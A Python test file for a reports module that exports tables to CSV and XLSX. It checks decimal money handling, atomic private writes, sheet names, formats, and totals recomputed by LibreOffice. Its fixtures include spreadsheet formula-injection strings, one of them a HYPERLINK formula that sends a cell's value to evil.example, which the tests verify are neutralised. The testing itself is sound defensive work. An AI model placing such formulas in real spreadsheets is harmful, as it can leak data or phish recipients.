"""Tables written as CSV and XLSX, read back: values, formats, formulas, safety, atomicity."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import stat
import subprocess
import zipfile
from datetime import date, datetime
from decimal import Decimal as D  # noqa: N817 - reads like the figures
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.reports import tabular
from desktop.reports.safe_cells import neutralise
from desktop.reports.tabular import Column, Kind, Table, heading, write_csv, write_xlsx
from desktop.reports.xlsx_tables import (
    DATE_FORMAT,
    MONEY_FORMAT,
    add_table_sheet,
    new_workbook,
    save_workbook,
    sheet_name,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Pay here")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
)


def sample() -> Table:
    return Table(
        title="Sample: A/R",
        subtitle="As of 2026-03-31",
        columns=(
            Column("day", Kind.DATE),
            Column("client"),
            Column("sessions", Kind.INTEGER, summed=True),
            Column("amount", Kind.MONEY, summed=True),
            Column("share", Kind.PERCENT),
        ),
        rows=(
            (date(2026, 3, 1), "Ana Lopez", 2, D("1234.50"), D("0.25")),
            (date(2026, 3, 2), HOSTILE[0], 1, D("-12.05"), None),
            (date(2026, 3, 3), "José Ñúñez", 3, D("1234567890123.45"), D("0.5")),
        ),
        total=("TOTAL", "", 6, D("1234567891345.90"), None),
        notes=("Made-up figures.", "@note that looks like a formula"),
    )


# --- the model ------------------------------------------------------------------------


def test_money_as_float_is_refused() -> None:
    with pytest.raises(TypeError, match="float"):
        Table("T", (Column("amount", Kind.MONEY),), ((12.5,),))  # type: ignore[arg-type]


def test_total_that_is_not_the_sum_is_refused() -> None:
    with pytest.raises(ValueError, match=r"add up to 3\.00"):
        Table(
            "T",
            (Column("amount", Kind.MONEY, summed=True),),
            ((D("1.00"),), (D("2.00"),)),
            total=(D("3.01"),),
        )


def test_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="row 1 has 1 cells, not 2"):
        Table("T", (Column("a"), Column("b")), (("x",),))


# --- neutralising ---------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Ana Lopez", "O'Brien", "1+1", "a=b", "'=quoted already"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


# --- CSV ------------------------------------------------------------------------------


def test_csv_to_a_stream_exactly() -> None:
    out = io.StringIO()
    write_csv(sample(), out)
    assert out.getvalue() == (
        "day,client,sessions,amount,share\r\n"
        "2026-03-01,Ana Lopez,2,1234.50,0.25\r\n"
        '2026-03-02,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Pay here"")",1,-12.05,\r\n'
        "2026-03-03,José Ñúñez,3,1234567890123.45,0.5\r\n"
        "TOTAL,,6,1234567891345.90,\r\n"
    )


def test_csv_neutralises_every_hostile_text() -> None:
    table = Table("T", (Column("client"),), tuple((text,) for text in HOSTILE))
    out = io.StringIO()
    write_csv(table, out)
    read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert read[1:] == [["'" + text] for text in HOSTILE]


def test_csv_file_is_private_has_a_bom_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "sample.csv"
    write_csv(sample(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_bytes().startswith(b"\xef\xbb\xbfday,client,")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["day", "client", "sessions", "amount", "share"]
    assert rows[3][1] == "José Ñúñez"
    assert sum(D(row[3]) for row in rows[1:-1]) == D(rows[-1][3]) == D("1234567891345.90")
    assert os.listdir(tmp_path) == ["sample.csv"]


def test_replacing_a_file_is_atomic_and_makes_it_private(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old\n")
    path.chmod(0o644)
    write_csv(sample(), path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert "Ana Lopez" in path.read_text(encoding="utf-8-sig")
    assert sorted(os.listdir(tmp_path)) == ["report.csv"]


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temp(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old\n")

    def broken(table: Table) -> object:
        yield ["half a row"]
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(tabular, "csv_records", broken)
    with pytest.raises(OSError, match="No space"):
        write_csv(sample(), path)
    assert path.read_text() == "old\n"
    assert os.listdir(tmp_path) == ["report.csv"]


# --- XLSX -----------------------------------------------------------------------------


def sheet_xml(path: Path, number: int = 1) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{number}.xml").decode()


def test_xlsx_layout_formats_and_formulas(tmp_path: Path) -> None:
    path = tmp_path / "sample.xlsx"
    write_xlsx([sample()], path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == ["sample.xlsx"]
    ws = load_workbook(path).active
    assert ws.title == "Sample A R"  # ':' and '/' cannot be in a sheet name
    assert (ws["A1"].value, ws["A2"].value) == ("Sample: A/R", "As of 2026-03-31")
    # Headings in words in the workbook; the CSV keeps the machine names.
    assert [c.value for c in ws[4]] == ["Day", "Client", "Sessions", "Amount", "Share"]
    assert all(c.font.b for c in ws[4])
    assert ws.freeze_panes == "A5"
    assert ws.auto_filter.ref == "A4:E7"  # header and rows; the total row stays out
    # Dates are real dates, money has the dollar format, percent a percent format.
    assert ws["A5"].is_date
    assert ws["A5"].value == datetime(2026, 3, 1)
    assert ws["A5"].number_format == DATE_FORMAT == "mm/dd/yyyy"
    assert [ws[f"D{r}"].number_format for r in (5, 6, 7)] == [MONEY_FORMAT] * 3
    assert ws["E5"].number_format == "0.00%"
    # Totals are formulas over the rows; labels are text.
    assert ws["A8"].value == "TOTAL"
    assert ws["A8"].font.b
    assert ws["C8"].value == "=SUM(C5:C7)"
    assert ws["D8"].value == "=ROUND(SUM(D5:D7),2)"
    assert ws["D8"].number_format == MONEY_FORMAT
    assert ws["E8"].value is None
    # Notes sit below the total, neutralised too.
    assert (ws["A10"].value, ws["A11"].value) == (
        "Made-up figures.",
        "'@note that looks like a formula",
    )
    # Column widths follow the content: the hostile name is long, the day is not.
    assert ws.column_dimensions["B"].width >= 40
    assert 8 <= ws.column_dimensions["A"].width <= 14


def test_xlsx_money_is_stored_as_exact_decimal_text(tmp_path: Path) -> None:
    path = tmp_path / "sample.xlsx"
    write_xlsx([sample()], path)
    values = re.findall(r'<c r="D[567]"[^>]*><v>([^<]+)</v>', sheet_xml(path))
    assert [D(v) for v in values] == [D("1234.50"), D("-12.05"), D("1234567890123.45")]


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    rows = tuple((text,) for text in (*HOSTILE, "#N/A", "bell\x07 in a memo"))
    path = tmp_path / "hostile.xlsx"
    write_xlsx([Table("Hostile", (Column("client"),), rows)], path)
    xml = sheet_xml(path)
    assert "<f>" not in xml
    ws = load_workbook(path).active
    cells = [ws.cell(row=r, column=1) for r in range(5, 5 + len(rows))]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == [
        *("'" + text.replace("\r", "\n") for text in HOSTILE),  # XML keeps no bare CR
        "#N/A",  # text, not Excel's error value
        "bell in a memo",  # control characters cannot be stored in XLSX
    ]


def test_empty_table_totals_are_zero_values(tmp_path: Path) -> None:
    table = Table(
        "Nothing",
        (Column("client"), Column("total", Kind.MONEY, summed=True)),
        (),
        total=("TOTAL", D("0.00")),
    )
    path = tmp_path / "empty.xlsx"
    write_xlsx([table], path)
    ws = load_workbook(path).active
    assert ws["B5"].value == 0
    assert ws["B5"].data_type == "n"
    assert ws.auto_filter.ref == "A4:B4"


def test_sheet_names_are_legal_and_unique() -> None:
    assert sheet_name("A/R roll-forward") == "A R roll-forward"
    assert sheet_name("'quoted'") == "quoted"
    assert sheet_name("x" * 40) == "x" * 31
    assert sheet_name("Aging", ["aging"]) == "Aging (2)"
    assert sheet_name("y" * 40, ["y" * 31]) == "y" * 27 + " (2)"
    assert sheet_name("[]") == "Sheet"


def test_several_tables_one_sheet_each_and_cross_sheet_references(tmp_path: Path) -> None:
    workbook = new_workbook()
    cover = workbook.create_sheet("Cover")
    first = add_table_sheet(workbook, sample())
    second = add_table_sheet(workbook, sample())
    cover["A1"] = "=" + second.reference("amount")
    save_workbook(workbook, tmp_path / "pack.xlsx")
    loaded = load_workbook(tmp_path / "pack.xlsx")
    assert loaded.sheetnames == ["Cover", "Sample A R", "Sample A R (2)"]
    assert (first.total_row, first.totals) == (8, {"sessions": "C8", "amount": "D8"})
    assert loaded["Cover"]["A1"].value == "='Sample A R (2)'!$D$8"


# --- computed by a real spreadsheet -----------------------------------------------------


def tenths() -> Table:
    """Amounts whose float sum is not the decimal sum: 0.1 * 10 adds up to 0.9999999999999999."""
    amounts = [D("1234567.89"), *[D("0.10")] * 10, D("-0.07"), *[D("0.01")] * 7]
    assert sum(float(a) for a in amounts) != float(sum(amounts))
    return Table(
        "Tenths",
        (Column("client"), Column("amount", Kind.MONEY, summed=True)),
        tuple((HOSTILE[0] if i == 0 else f"C{i}", a) for i, a in enumerate(amounts)),
        total=("TOTAL", sum(amounts, D("0.00"))),
    )


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed; apt-get install libreoffice-calc to run",
)
def test_libreoffice_computes_the_apps_totals(tmp_path: Path) -> None:
    tables = [sample(), tenths()]
    path = tmp_path / "pack.xlsx"
    written = write_xlsx(tables, path)
    # Export every sheet (the last option, -1) as raw values, one CSV per sheet.
    options = "44,34,76,1,,0,false,true,false,false,false,-1"
    result = subprocess.run(
        [
            "soffice",
            "--headless",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{options}",
            "--outdir",
            str(tmp_path / "out"),
            str(path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    for table, where in zip(tables, written, strict=True):
        with (tmp_path / "out" / f"pack-{where.sheet}.csv").open(encoding="utf-8") as handle:
            grid = list(csv.reader(handle))
        total_row = grid[where.total_row - 1]
        for name in where.totals:
            index = table.column_index(name)
            assert D(total_row[index]) == table.total[index], name  # type: ignore[index]
        # The hostile name came through as text, not as a computed value.
        client = table.column_index("client")
        names = [row[client] for row in grid[where.first_row - 1 : where.last_row]]
        assert "'" + HOSTILE[0] in names


def test_headings_are_words() -> None:
    assert heading("client_ref") == "Client ref."
    assert heading("charge_id") == "Charge ID"
    assert heading("eob_date") == "EOB date"
    assert heading("1-30") == "1-30"
    assert Column("name", label="Client").heading == "Client"
